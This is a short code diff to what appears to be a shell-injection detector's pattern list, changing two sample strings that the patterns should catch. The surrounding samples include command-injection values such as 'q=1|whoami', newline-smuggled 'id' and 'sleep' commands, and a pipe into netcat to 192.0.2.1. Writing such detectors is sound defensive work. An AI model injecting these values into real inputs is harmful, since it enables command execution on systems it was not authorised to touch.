@@ -196,7 +196,7 @@ export const SHELL_SEPARATORS: readonly Pattern[] = [
     from: "balanced",
     finds: [
       "x | nc 192.0.2.1 80",
-      "a|/usr/bin/id",
+      "b|/usr/bin/who",
       "q=1|whoami",
       "x | sort /etc/hosts",
       "x | head -n 5 /etc/hosts",
@@ -231,7 +231,7 @@ export const SHELL_SEPARATORS: readonly Pattern[] = [
     catches: "a command on a line of its own after a value such as an address or a number",
     from: "balanced",
     finds: [
-      "\nid\n",
+      "\nuname\n",
       "'\nsleep 5",
       "192.0.2.1\nid",
       "example.com\nsleep 9",
